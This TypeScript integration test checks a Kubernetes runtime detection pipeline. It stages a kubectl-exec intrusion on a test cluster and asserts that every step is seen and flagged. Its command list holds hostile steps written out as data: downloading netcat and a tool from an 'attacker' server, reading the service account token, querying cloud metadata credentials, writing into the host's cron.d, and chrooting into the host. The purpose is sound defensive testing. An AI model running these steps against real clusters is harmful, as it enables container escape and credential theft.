import { execFileSync } from 'node:child_process'
import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
import type { EnrichedEvent } from '../../schemas/generated/types.ts'
import { severityRank } from '../../services/core/severity.ts'
import { makePlaces, removePlaces } from '../support/record-attack/network.ts'
import { serve, writePackage } from '../support/record-attack/served.ts'
import { lacking } from './attribution.ts'
import { type Cluster, clusterIn } from './cluster.ts'
import { BUSYBOX_IMAGE } from './images.ts'
import { inventoryKubeconfig } from './inventory-account.ts'
import { startTestPipeline, type TestPipeline } from './pipeline.ts'

/** Who gets in: a user of her own certificate. */
const USER = 'mallory'
const NAMESPACE = 'attacked'
const patient = { timeout: 90_000, interval: 500 }
const SERVER = 'http://175.102.182.6'
/** A pod that has just started may install what it needs. */
const POD_AGE_MS = 61_000
const FILES = Array.from({ length: 40 }, (_, number) => `/tmp/made-${number}`)

/** What is run in the pod, each an exec of its own: the test's count is this list. */
const COMMANDS: ReadonlyArray<readonly string[]> = [
  ['/bin/id'],
  ['/bin/wget', '-q', '-O', '/tmp/netcat.deb', `${SERVER}/netcat.deb`],
  ['/bin/dpkg', '-i', '/tmp/netcat.deb'],
  ['/bin/cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'],
  ['/bin/wget', '-q', '-O', '/tmp/role', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
  ['/bin/wget', '-q', '-O', '/tmp/busybox-tool', `${SERVER}/busybox-tool`],
  ['/bin/chmod', '+x', '/tmp/busybox-tool'],
  ['/tmp/busybox-tool', 'uname', '-a'],
  ['/bin/cp', '/tmp/role', '/host/etc/cron.d/update'],
  ['/bin/chroot', '/host', '/bin/busybox', 'id'],
  ...FILES.map((file) => ['/bin/touch', file]),
  ['/bin/mv', '/tmp/made-0', '/tmp/moved-0'],
  ['/bin/rm', '/tmp/made-1']
]
/** Execs that the commands bring with them. */
const FURTHER = [['/bin/busybox', 'id']]

let cluster: Cluster
let pipeline: TestPipeline
let watch: Awaited<ReturnType<TestPipeline['watch']>>
let host: string
let work: string
const undo: Array<() => void> = []

/** The pod that is got into: a folder of this machine stands for its root. */
const victim = (host_folder: string) => ({
  apiVersion: 'apps/v1',
  kind: 'Deployment',
  metadata: { name: 'victim', namespace: NAMESPACE },
  spec: {
    replicas: 1,
    selector: { matchLabels: { app: 'victim' } },
    template: {
      metadata: { labels: { app: 'victim' } },
      spec: {
        terminationGracePeriodSeconds: 0,
        volumes: [{ name: 'host', hostPath: { path: host_folder } }],
        containers: [
          {
            name: 'app',
            image: BUSYBOX_IMAGE,
            command: ['/bin/sleep', '3600'],
            volumeMounts: [{ name: 'host', mountPath: '/host' }]
          }
        ]
      }
    }
  }
})
const rights = [
  {
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'Role',
    metadata: { name: 'debugger', namespace: NAMESPACE },
    rules: [
      { apiGroups: ['', 'apps'], resources: ['pods', 'deployments'], verbs: ['get', 'list'] },
      { apiGroups: [''], resources: ['pods/exec'], verbs: ['get', 'create'] }
    ]
  },
  {
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'RoleBinding',
    metadata: { name: 'debugger', namespace: NAMESPACE },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'debugger' },
    subjects: [{ kind: 'User', apiGroup: 'rbac.authorization.k8s.io', name: USER }]
  }
]

/** Events of the agent's own sensor in the pod that was got into, of what came in by the exec. */
const inSession = async (): Promise<EnrichedEvent[]> =>
  (await pipeline.events()).filter(
    ({ source, pod, container, runtime }) =>
      source.provider === 'bpf' &&
      pod?.namespace === NAMESPACE &&
      container?.name === 'app' &&
      runtime?.process?.entry === 'exec'
  )
const ofAction = async (action: string) => (await inSession()).filter(({ runtime }) => runtime?.action === action)
const argsOf = (events: readonly EnrichedEvent[]) => events.map(({ runtime }) => runtime?.process?.args ?? [])
const sorted = (lists: ReadonlyArray<readonly string[]>) => lists.map((list) => list.join(' ')).toSorted()

beforeAll(async () => {
  cluster = clusterIn(inject('cluster_folder'))
  work = mkdtempSync(join(tmpdir(), 'weir-attacked-'))
  host = join(work, 'host')
  for (const folder of ['host/etc/cron.d', 'host/bin', 'www']) mkdirSync(join(work, folder), { recursive: true })
  const busybox = execFileSync('sh', ['-c', 'command -v busybox'], { encoding: 'utf8' }).trim()
  for (const copy of [join(host, 'bin/busybox'), join(work, 'www/busybox-tool')]) copyFileSync(busybox, copy)
  writePackage(join(work, 'www/netcat.deb'), join(work, 'package'))
  undo.push(removePlaces)
  makePlaces()
  undo.push(serve('attacker', 'attacker', join(work, 'www')), serve('metadata', 'metadata'))
  pipeline = await startTestPipeline(cluster, inventoryKubeconfig(cluster), { audit_webhook: inject('audit_webhook') })
  watch = await pipeline.watch()
  cluster.kubectl('create', 'namespace', NAMESPACE)
  cluster.apply(...rights, victim(host))
  await cluster.kubectlLater('-n', NAMESPACE, 'rollout', 'status', 'deployment', 'victim', '--timeout=90s')
  await new Promise((resolve) => setTimeout(resolve, POD_AGE_MS))
  const shell = join(cluster.folder, 'bin/kubectl')
  const identity = join(cluster.folder, `${USER}.kubeconfig`)
  const script = `${COMMANDS.map((args) => args.join(' ')).join('\n')}\n:`
  const command = ['--kubeconfig', identity, '-n', NAMESPACE, 'exec', 'deploy/victim', '--', '/bin/sh', '-c', script]
  execFileSync(shell, command, { stdio: ['ignore', 'ignore', 'pipe'] })
}, 240_000)

afterAll(async () => {
  for (const step of undo.toReversed()) step()
  await watch?.stop()
  await pipeline?.stop()
  if (work !== undefined) rmSync(work, { recursive: true, force: true })
}, 60_000)

// Without BTF, a compiler or rights there is no sensor to test; the reason is given with each skip.
describe('an attack by kubectl exec on a real cluster', () => {
  it('is seen exec by exec, as the test counts them', async (test) => {
    if (pipeline.blind !== null) return test.skip(pipeline.blind)
    const wanted = [...COMMANDS, ...FURTHER]
    const seen = async () => argsOf(await ofAction('exec')).filter(([program]) => program !== '/bin/sh')
    await expect.poll(async () => (await seen()).length, patient).toBeGreaterThanOrEqual(wanted.length)
    expect(sorted(await seen())).toEqual(sorted(wanted))
  }, 120_000)

  it('is seen file by file, as the test counts them', async (test) => {
    if (pipeline.blind !== null) return test.skip(pipeline.blind)
    const made = async () =>
      (await ofAction('open_write'))
        .flatMap(({ runtime }) => runtime?.file?.path ?? [])
        .filter((path) => path.startsWith('/tmp/made-'))
    await expect.poll(async () => (await made()).length, patient).toBeGreaterThanOrEqual(FILES.length)
    expect((await made()).toSorted()).toEqual(FILES.toSorted())
    const files = async (action: string) =>
      (await ofAction(action))
        .map(({ runtime }) => [runtime?.file?.path, runtime?.file?.target_path])
        .filter(([path]) => path?.startsWith('/tmp/made-'))
    expect(await files('rename')).toEqual([['/tmp/made-0', '/tmp/moved-0']])
    expect(await files('unlink')).toEqual([['/tmp/made-1', null]])
    // The escape is there, where the node would read it.
    expect(readFileSync(join(host, 'etc/cron.d/update'), 'utf8')).toBe('notebook-node')
  }, 120_000)

  it('leaves no event of a container without container, pod and owner', async (test) => {
    if (pipeline.blind !== null) return test.skip(pipeline.blind)
    const events = (await pipeline.events()).filter(
      ({ container, source }) => container !== null && source.provider === 'bpf'
    )
    expect(events.length).toBeGreaterThan(100)
    expect(lacking(events, NAMESPACE)).toEqual([])
  })

  it('is detected step by step', async (test) => {
    if (pipeline.blind !== null) return test.skip(pipeline.blind)
    const missing = async () => {
      const codes = new Set(
        (await pipeline.signals())
          .filter(({ entities }) => entities.some(({ name }) => name.startsWith(`${NAMESPACE}/victim`)))
          .map(({ rule }) => rule.code)
      )
      return ['A30', 'R20', 'R23', 'R26', 'R18', 'R13', 'R14', 'R48'].filter((code) => !codes.has(code))
    }
    await expect.poll(missing, patient).toEqual([])
  }, 120_000)

  it('is one incident of both sources, which C01 gives the name of who did it', async (test) => {
    if (pipeline.blind !== null) return test.skip(pipeline.blind)
    const sessions = async () =>
      (await pipeline.signals()).filter(({ rule }) => rule.code === 'C01').map(({ title }) => title)
    await expect
      .poll(sessions, patient)
      .toEqual([expect.stringMatching(`^${USER} .*opened a session in ${NAMESPACE}/victim-`)])
    const incidents = async () =>
      (await pipeline.incidents()).filter(({ entities }) =>
        entities.some(({ name }) => name.startsWith(`${NAMESPACE}/`))
      )
    await expect
      .poll(async () => (await incidents()).map(({ sources }) => sources), patient)
      .toEqual([['audit', 'runtime']])
    const [incident] = await incidents()
    expect(severityRank(incident?.severity ?? 'informational')).toBeGreaterThanOrEqual(severityRank('high'))
    const names = new Set(incident?.entities.map(({ name }) => name))
    expect(names).toContain(USER)
    expect([...names].join('\n')).toContain(BUSYBOX_IMAGE)
  }, 120_000)
})
